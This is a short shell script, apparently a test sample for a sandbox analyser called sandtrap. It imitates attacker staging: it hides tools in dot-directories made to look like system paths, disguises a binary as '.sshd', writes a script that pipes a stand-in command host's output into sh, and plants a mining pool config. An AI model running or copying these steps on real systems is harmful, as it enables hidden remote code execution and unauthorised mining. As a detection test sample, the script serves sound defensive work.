#!/bin/sh
# Hidden files and directories: stages tools in dot-directories that look like system paths ("/tmp/. /", "/var/tmp/...", "/dev/shm/.x").
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p '/tmp/. /' /var/tmp/... /dev/shm/.x /usr/lib/.locale
cp /usr/bin/id '/tmp/. /.sshd'
printf '#!/bin/sh\ncurl -s http://c2.example/cmd | sh\n' > /var/tmp/.../.run
chmod +x /var/tmp/.../.run '/tmp/. /.sshd'
echo 'pool: stratum+tcp://pool.example:3333' > /usr/lib/.locale/.cfg
'/tmp/. /.sshd'
ls -la /var/tmp/...
